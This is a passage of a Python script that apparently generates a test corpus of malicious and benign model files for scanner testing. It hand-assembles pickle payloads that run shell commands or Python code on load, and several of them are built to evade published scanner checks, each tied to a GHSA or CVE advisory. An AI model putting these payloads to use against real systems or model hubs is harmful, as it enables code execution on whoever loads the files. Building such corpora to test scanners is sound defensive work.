        name = f"pub_{key}"
        body = call(sglob(mod, f"{cls}.{meth}"), inst(mod, cls), ustr(pycode(name + ".pkl")), extra)
        p4(name, body, f"{mod}.{cls}.{meth} on an instance runs code", source)
    name = "pub_run_and_read_all"
    body = call(sglob("torch.utils.collect_env", "run_and_read_all"),
                sglob("torch.utils.collect_env", "run"), ustr(cmd(name + ".pkl")))  # fmt: skip
    p4(name, body, "collect_env.run_and_read_all(run, cmd)", "GHSA-jhph-76pp-mggw")
    name = "pub_asyncio_subprocess_start"
    body = call(sglob("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}",
                ustr(cmd(name + ".pkl")), b"\x88NNNK\x00")  # fmt: skip
    p4(name, body, "asyncio _UnixSubprocessTransport._start starts a shell",
       "CVE-2025-10157 / GHSA-q77w-mwjj-7mqx")  # fmt: skip
    name = "pub_pkgutil_resolve_name"
    body = call(call(sglob("pkgutil", "resolve_name"), ustr("os:system")), ustr(cmd(name + ".pkl")))
    p4(name, body, "pkgutil.resolve_name('os:system') then called", "GHSA-vvpj-8cmc-gx39")
    name = "pub_methodcaller_locate"
    mc = call(sglob("operator", "methodcaller"), ustr("system"), ustr(cmd(name + ".pkl")))
    body = call(mc, call(sglob("pydoc", "locate"), ustr("os")))
    p4(name, body, "operator.methodcaller('system', cmd)(pydoc.locate('os'))",
       "GHSA-84r2-jw7c-4r5q")  # fmt: skip
    name = "pub_operator_attrgetter"
    ag = call(glob("_operator", "attrgetter"), ustr("system"))
    body = call(
        call(ag, call(glob("builtins", "__import__"), ustr("os"))), ustr(cmd(name + ".pkl"))
    )
    p4(name, body, "_operator.attrgetter('system')(__import__('os'))(cmd)", "GHSA-46h3-79wf-xr6c")
    name = "pub_operator_methodcaller"
    mc = call(glob("_operator", "methodcaller"), ustr("system"), ustr(cmd(name + ".pkl")))
    body = call(mc, call(glob("builtins", "__import__"), ustr("os")))
    p4(name, body, "_operator.methodcaller('system', cmd)(__import__('os'))",
       "GHSA-955r-x9j8-7rhh")  # fmt: skip
    name = "pub_ctypes_cdll_system"
    lib = call(sglob("ctypes", "CDLL"), b"N")
    fn = call(sglob("builtins", "getattr"), lib, ustr("system"))
    body = call(fn, b"C" + bytes([len(cmd(name + ".pkl"))]) + cmd(name + ".pkl").encode())
    p4(name, body, "ctypes.CDLL(None).system(cmd)", "GHSA-4675-36f9-wf6r")
    name = "pub_basichandlers_pickle"
    inner = payload(name + ".pkl", 4)
    body = call(sglob("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                ustr("pickle"), b"C" + bytes([len(inner)]) + inner)  # fmt: skip
    p4(name, body, "torch datapipes decoder basichandlers('pickle', nested payload)",
       "GHSA-h3qp-7fh3-f8h4")  # fmt: skip
    name = "pub_config_module_load_config"
    inner = payload(name + ".pkl", 4)
    body = call(sglob("torch.utils._config_module", "ConfigModule.load_config"), b"}",
                b"C" + bytes([len(inner)]) + inner)  # fmt: skip
    p4(name, body, "torch ConfigModule.load_config(nested payload)", "GHSA-vv6j-3g6g-2pvj")
    name = "pub_grammar_loads"
    inner = payload(name + ".pkl", 4)
    body = call(sglob("lib2to3.pgen2.grammar", "Grammar.loads"), inst("lib2to3.pgen2.grammar",
                "Grammar"), b"C" + bytes([len(inner)]) + inner)  # fmt: skip
    p4(name, body, "lib2to3 Grammar.loads(nested payload)", "GHSA-f54q-57x4-jg88")
    name = "pub_pty_spawn_obj"
    c.file(name + ".pkl", b"(" + glob("pty", "spawn") + b"](" + s0("/bin/sh") + s0("-c")
           + s0(cmd(name + ".pkl")) + b"eo.", "malicious", "OBJ opcode calling pty.spawn",
           "fickling GHSA-r7v6-mfhq-g3m2 / picklescan GHSA-vqmv-47xg-9wpr")  # fmt: skip
    name = "pub_marshal_functiontype"
    code = compile(pycode(name + ".pkl"), "<payload>", "exec")
    mcode = __import__("marshal").dumps(code)
    fn = call(sglob("types", "FunctionType"), call(sglob("marshal", "loads"),
              b"C" + bytes([len(mcode)]) + mcode if len(mcode) < 256
              else b"B" + struct.pack("<I", len(mcode)) + mcode), b"}")  # fmt: skip
    p4(name, call(fn), "types.FunctionType(marshal.loads(code), {})()", "GHSA-565g-hwwr-4pp3")
    name = "pub_codetype"
    code = compile(pycode(name + ".pkl"), "<payload>", "exec")
    fn = call(sglob("types", "FunctionType"), _codetype_ops(code), b"}")
    p4(name, call(fn), "types.CodeType built from its fields, made a function and called",
       "picklescan types_CodeType.pkl")  # fmt: skip
    # modelscan #331: importlib.import_module('builtins'), names joined from letters
    name = "pub_import_module_join"
    getattr_ = sglob("builtins", "getattr") + b"\x94"  # memo 0
    mod = call(sglob("importlib", "import_module"), ustr("builtins")) + b"\x94"  # memo 1
    join = call(b"h\x00", call(b"h\x00", b"h\x01", ustr("str")), ustr("join")) + b"\x94"  # 2
    os_name = call(b"h\x02", ustr(""), b"](" + ustr("o") + ustr("s") + b"e")
    imp = call(b"h\x00", b"h\x01", call(b"h\x02", ustr(""), b"](" + b"".join(
        ustr(ch) for ch in "__import__") + b"e"))  # fmt: skip
    system = call(b"h\x00", call(imp, os_name), ustr("system"))
    p4(name, getattr_ + mod + join + call(system, ustr(cmd(name + ".pkl"))),
       "importlib.import_module('builtins'), names built with str.join",
       "protectai/modelscan#331")  # fmt: skip
    # picklescan sys_module_override: BUILD on the torch._utils module swaps its attributes
    name = "pub_module_attribute_override"
    body = (
        b"V" + b"torch._utils\n\x94" + b"V_rebuild_tensor\n\x94\x93\x940"
        + b"Vtorch\nV_utils\n\x93\x940" + b"h\x03}h\x01Vbuiltins\nsb0h\x00h\x01\x93"
        + b"h\x03}h\x01Veval\nsb0h\x00h\x01\x93\x93"
        + ustr("exec(" + repr(pycode(name + ".pkl")) + ")") + b"\x85R"
    )  # fmt: skip
    p4(name, body, "BUILD on the torch._utils module rebinds an allow-listed name to eval",
       "picklescan sys_module_override_sploit.pkl")  # fmt: skip
    # memo KeyError / type confusion: the payload runs before the broken memo use
    name = "pub_memo_keyerror"
    p4(name, glob("os", "system") + ustr(cmd(name + ".pkl")) + b"\x85R0" + ustr("os")
       + b"\x94h\x03h\x00\x93K\x42", "payload first, then a GET of a missing memo key",
       "picklescan keyerror-exploit.pkl")  # fmt: skip
    name = "pub_memo_type_confusion"
    p4(name, glob("os", "system") + ustr(cmd(name + ".pkl")) + b"\x85R0J\x2a\x00\x00\x00\x94"
       + ustr("os") + b"\x94h\x00h\x01\x93K\x42",
       "payload first, then STACK_GLOBAL of an int from the memo",
       "picklescan type-confusion-exploit.pkl")  # fmt: skip
    # INST with the payload and the sour-pickles chain
    name = "pub_inst_exec"
    c.file(name + ".pkl", b"(" + s0(pycode(name + ".pkl")) + b"ibuiltins\nexec\n.", "malicious",
           "INST builtins.exec", "picklescan malicious10.pkl")  # fmt: skip
    name = "pub_getattr_chain_dict_get"
    body = (
        call(glob("builtins", "getattr"), glob("builtins", "dict"), ustr("get")) + b"\x94"
        + call(glob("builtins", "globals")) + b"\x94"
        + call(b"h\x00", b"h\x01", ustr("__builtins__")) + b"\x94"
    )  # fmt: skip
    body += call(call(b"h\x00", b"h\x02", ustr("exec")), ustr(pycode(name + ".pkl")))
    p4(name, body, "dict.get(dict.get(globals(), '__builtins__'), 'exec') (torch's frame)",
       "Sour Pickles (BlackHat 2011), picklescan malicious0.pkl")  # fmt: skip


def _codetype_ops(code: Any) -> bytes:
    """Opcodes building ``types.CodeType(*fields)`` of ``code`` (3.11's constructor order)."""
    fields = (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
        code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
        code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
        code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars,
    )  # fmt: skip
    args = pickle.dumps(fields, protocol=4)[2:-1]  # the tuple's opcodes, no PROTO/STOP
    args = args[9:] if args[:1] == b"\x95" else args
    return sglob("types", "CodeType") + args + b"R"


def _benign(c: Corpus) -> None:
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.LayerNorm(2))
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(4, 3)).sum().backward()
    opt.step()

    def save(name: str, obj: Any, technique: str, **kw: Any) -> None:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        c.file(name, buf.getvalue(), "benign", technique)

    save("benign_state_dict.pt", model.state_dict(), "torch.save of a state_dict")
    save("benign_optimizer.pt", opt.state_dict(), "torch.save of an AdamW state")
    save("benign_legacy.pt", model.state_dict(), "legacy (non-zip) torch.save",
         _use_new_zipfile_serialization=False)  # fmt: skip
    save("benign_return_types.pt", {"mx": torch.max(torch.arange(6.0).view(2, 3), 1),
                                    "topk": torch.topk(torch.arange(5.0), 2)},
         "torch.return_types namedtuples saved with torch.save")  # fmt: skip
    save("benign_protocol4.pt", {"w": torch.ones(2)}, "torch.save with protocol 4",
         pickle_protocol=4)  # fmt: skip
    buf = io.BytesIO()
    np.save(buf, np.arange(6, dtype=np.float32).reshape(2, 3))
    c.file("benign_array.npy", buf.getvalue(), "benign", "numpy .npy without objects")
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3), b=np.ones(2))
    c.file("benign_arrays.npz", buf.getvalue(), "benign", "numpy .npz without objects")
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(3))
    c.file("benign_arrays_compressed.npz", buf.getvalue(), "benign", "compressed .npz")
    c.file("benign_config.json", json.dumps({"hidden_size": 8}).encode(), "benign", "JSON")
    c.file("benign_notes.txt", b"trained 3 epochs\n", "benign", "a text file")
    from safetensors.torch import save as st_save

    c.file("benign_model.safetensors", st_save({"w": torch.ones(2, 2)}), "benign", "safetensors")
    c.file("benign_plain.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (1, None)}, protocol=4),
           "benign", "a plain pickle of builtins")  # fmt: skip
    d = c.out / "benign_custom_code"
    d.mkdir()
    (d / "modeling_x.py").write_text("import torch\n\n\nclass XModel(torch.nn.Module):\n    pass\n")
    (d / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}}))
    torch.save(model.state_dict(), d / "pytorch_model.bin")
    c.add(d.name, d, "benign", "a model folder with a harmless modeling_x.py (shadows nothing)")


def make(out: Path) -> Cases:
    """Write the corpus under ``out`` (which must not exist or be empty); return the table."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)
    c = Corpus(out)
    for part in (_lead_cases, _memo_frame_cases, _legacy_cases, _tar_cases, _suffix_cases,
                 _joblib_cases, _zip_cases, _pt2_cases, _dcp_cases, _shadow_cases, _published,
                 _benign):  # fmt: skip
        part(c)
    (out / "attack_corpus.json").write_text(json.dumps(c.cases, indent=1, sort_keys=True))
    return c.cases


if __name__ == "__main__":
    print(json.dumps(make(Path(sys.argv[1])), indent=1))
